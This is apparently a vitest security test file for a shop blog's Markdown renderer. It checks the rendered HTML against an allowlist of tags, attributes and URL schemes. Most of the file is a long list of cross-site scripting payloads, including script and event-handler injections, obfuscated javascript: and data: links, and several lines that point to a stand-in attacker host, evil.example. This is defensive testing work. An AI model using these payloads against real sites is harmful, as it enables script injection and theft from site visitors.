import { parseDocument } from "htmlparser2";
import { expect, test } from "vitest";
import { renderMarkdown } from "./render.ts";

/** Everything a rendered text may consist of. */
const ALLOWED: Record<string, string[]> = {
  a: ["href", "rel", "target", "title", "class", "id", "aria-label"],
  blockquote: [],
  br: [],
  code: ["class"],
  em: [],
  figcaption: [],
  figure: ["class", "role", "aria-label", "tabindex"],
  h2: ["id"],
  h3: ["id"],
  h4: ["id"],
  h5: ["id"],
  h6: ["id"],
  hr: [],
  img: ["src", "srcset", "sizes", "alt", "title", "loading", "decoding"],
  input: ["type", "disabled", "aria-label", "checked"],
  li: ["class", "id"],
  ol: ["start"],
  p: [],
  pre: ["tabindex"],
  s: [],
  section: ["class", "aria-label"],
  strong: [],
  sup: [],
  table: [],
  tbody: [],
  td: ["class"],
  th: ["class", "scope"],
  thead: [],
  tr: [],
  ul: [],
};

type Node = ReturnType<typeof parseDocument>["children"][number];

/** What is wrong with rendered text, as a parser that knows nothing of Markdown sees it. */
function faultsOf(html: string): string[] {
  const faults: string[] = [];
  const look = (node: Node) => {
    if (node.type === "text") return;
    if (!("name" in node && "attribs" in node)) {
      faults.push(node.type);
      return;
    }
    const allowed = ALLOWED[node.name];
    if (!allowed) faults.push(`<${node.name}>`);
    for (const [name, value] of Object.entries(node.attribs)) {
      if (!allowed?.includes(name)) faults.push(`${node.name}[${name}]`);
      if (name === "href" && !isHarmless(value)) faults.push(value);
      if (name === "src" && !/^\/img\/[\w-]+\?w=640$/.test(value)) faults.push(value);
      if (name === "srcset" && !/^(\/img\/[\w-]+\?w=\d+ \d+w,?)+$/.test(value)) faults.push(value);
    }
    for (const child of node.children) look(child);
  };
  for (const node of parseDocument(html).children) look(node);
  return faults;
}

/** As a browser would understand the address on a page of the shop. */
function isHarmless(url: string): boolean {
  const { protocol } = new URL(url, "https://shop.example/blog/x");
  return ["http:", "https:", "mailto:"].includes(protocol);
}

const attacks = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=//evil.example>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example>",
  "<style>@import '//evil.example'</style>",
  "<form action=//evil.example><input name=x></form>",
  "<body onload=alert(1)>",
  "<p style='background:url(//evil.example)'>x</p>",
  "<a href='javascript:alert(1)'>x</a>",
  "<details open ontoggle=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><script>alert(1)</script>-->",
  "<!-- a --!><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?>",
  "<!DOCTYPE html><script>alert(1)</script>",
  "</div></main></body><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<scr\0ipt>alert(1)</scr\0ipt>",
  "<<script>script>alert(1)</script>",
  "<x\nonclick=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\<script>alert(1)\\</script>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](<\tjavascript:alert(1)>)",
  "[x](<java\tscript:alert(1)>)",
  "[x](java\nscript:alert(1))",
  "[x](<java&#10;script:alert(1)>)",
  "[x](java&Tab;script:alert(1))",
  "[x](java&NewLine;script:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](javascript&#x3A;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;&#x61;vascript:alert(1))",
  "[x](\\javascript:alert(1))",
  "[x](j\\avascript:alert(1))",
  "[x](javascript\\:alert(1))",
  "[x](javascript%3Aalert(1))",
  "[x](%6Aavascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](<&#1;javascript:alert(1)>)",
  "[x](\u00a0javascript:alert(1))",
  "[x](\u2028javascript:alert(1))",
  "[x](\ufeffjavascript:alert(1))",
  "[x](ｊavascript:alert(1))",
  "[x](javascript://x.example/%0aalert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[x](data:image/png;base64,AAAA)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://shop.example/1)",
  "[x](filesystem:https://shop.example/1)",
  "[x](intent://x#Intent;end)",
  "[x](view-source:https://shop.example)",
  "[x](feed:javascript:alert(1))",
  "[x](tel:123)",
  "[x](x:y)",
  "[x](:javascript:alert(1))",
  "<javascript:alert(1)>",
  "<javascript://x.example/%0aalert(1)>",
  "<data:text/html,x>",
  "<x-y:z>",
  "javascript:alert(1)",
  "[x]: javascript:alert(1)\n\n[x]",
  "[x]: <javascript&#58;alert(1)> 'title'\n\n[x] ![x]",
  "[x]: data:text/html,x\n\n![a][x]",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  "![x](//evil.example/x.png)",
  "![x](https://evil.example/x.png)",
  "![x](/\\evil.example/x.png)",
  "![x](/img/../go/product/1)",
  '![x](/img/a"onerror=alert(1))',
  "![x](/img/a' onerror='alert(1))",
  '![x" onerror="alert(1)](/img/a)',
  "![x' onerror='alert(1)](/img/a)",
  "![<img src=x onerror=alert(1)>](/img/a)",
  '![x](/img/a "t\\" onerror=\\"alert(1)")',
  "![x](/img/a 't\" onerror=\"alert(1)')",
  "![x](/img/a '<script>alert(1)</script>')",
  '[x](/a"onclick=alert(1))',
  '[x](/a "t\\" onclick=\\"alert(1)")',
  "[x](/a '\"><script>alert(1)</script>')",
  '[x](</a" onclick=alert(1)>)',
  '[x](https://x.example/"onclick=alert(1))',
  "[x](https://user:pass@evil.example)",
  "[<b onclick=alert(1)>](/a)",
  '[x]: /a "\\"onclick=alert(1)"\n\n[x]',
  'https://x.example/"onclick="alert(1)',
  "https://x.example/<script>alert(1)</script>",
  "https://x.example/'onclick='alert(1)",
  '<https://x.example/"onclick=alert(1)>',
  "<https://x.example/<script>>",
  '"onclick="alert(1)@x.example',
  "mailto:a@b.example?body=<script>",
  '```"><script>alert(1)</script>\nx\n```',
  '```js"onclick="alert(1)\nx\n```',
  "```js'><img/src/onerror=alert(1)>\nx\n```",
  "```&quot;><script>\n</code></pre><script>alert(1)</script>\n```",
  "~~~ <script>\n</script>\n~~~",
  "`<script>alert(1)</script>`",
  "    <script>alert(1)</script>",
  "## <script>alert(1)</script>",
  '## "onclick=alert(1) x',
  "## [x](javascript:alert(1))",
  "## ![x](javascript:alert(1))",
  "## <img src=x onerror=alert(1)>\n\n| a |\n|---|\n| 1 |",
  '## "><script>alert(1)</script>\n\n| a |\n|---|\n| 1 |',
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "| [x](javascript:alert(1)) |\n|:-:|\n| ![x](data:x,x) |",
  "- [ ] <script>alert(1)</script>",
  '- [x] "onclick=alert(1)',
  '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
  "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
  "[^a]\n\n[^a]: [x](javascript:alert(1))",
  "[^__proto__] [^constructor]\n\n[^__proto__]: x\n[^constructor]: y",
  "[__proto__]: /x\n\n[__proto__] [constructor] [toString]",
  '{{product:"onclick=alert(1)}}',
  "{{product:<script>alert(1)</script>}}",
  "{{constructor.constructor('alert(1)')()}}",
  "> <script>alert(1)</script>",
  "1. <script>\n2. </script>",
  "*<script>*alert(1)*</script>*",
  "**a<b onclick=alert(1)>**",
  "<https://x.example>onclick=alert(1)",
  "\u202e<script>\u202c",
  "<a\u0000href=javascript:alert(1)>",
  "\0\0src\0",
  "![a](/img/x)\0x\0",
];

test.each(attacks)("1.3.1 comes out harmless: %j", (text) => {
  expect(faultsOf(renderMarkdown(text).html)).toEqual([]);
});

test("1.2.1 no tag of a text reaches the page", () => {
  expect(renderMarkdown("<b onclick='x'>y</b>").html).toBe(
    "<p>&lt;b onclick=‘x’&gt;y&lt;/b&gt;</p>\n",
  );
});

test("1.3.1 attacks inside one another come out harmless", () => {
  for (const [index, attack] of attacks.entries()) {
    const other = attacks[(index * 7 + 3) % attacks.length] ?? "";
    for (const text of [
      `> ${attack}\n> ${other}`,
      `- ${attack}\n  - ${other}`,
      `[${attack}](${other})`,
      `![${attack}](${other})`,
      `[${attack}][r]\n\n[r]: ${other}`,
      `| ${attack} | ${other} |\n|---|---|\n| ${other} | ${attack} |`,
      `## ${attack}\n\n*${other}*`,
      `x[^1]\n\n[^1]: ${attack} ${other}`,
    ]) {
      expect(faultsOf(renderMarkdown(text).html), text).toEqual([]);
    }
  }
});

/** Numbers from 0 to 1 that are the same in every run. */
function sequence(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1_664_525 + 1_013_904_223) % 4_294_967_296;
    return state / 4_294_967_296;
  };
}

test("1.3.1 no mixture of marks throws, or yields anything but the allowed", () => {
  const pieces = [
    ..."[](){}<>*_~`#|!\\\"'&;:/^-+=.\n\n  \t\0\r",
    "javascript:",
    "data:",
    "http://a.b/",
    "x@y.example",
    "/img/a",
    "onerror=",
    "&#106;",
    "&colon;",
    "[^1]",
    "[^1]: ",
    "[a]: ",
    "{{product:a}}\n",
    "<script>",
    "</p>",
    "<!--",
    "```\n",
    "    ",
    "|-|-|\n",
    "- [x] ",
    "# ",
    "> ",
    "\ud800",
    "é",
    "😀",
  ];
  const random = sequence(7);
  for (let round = 0; round < 1000; round++) {
    let text = "";
    for (let index = 0; index < 40; index++) {
      text += pieces[Math.floor(random() * pieces.length)];
    }
    const { html } = renderMarkdown(text);
    const faults = faultsOf(html);
    if (faults.length > 0 || html.includes("\0")) expect({ text, faults }).toEqual({ text });
  }
});
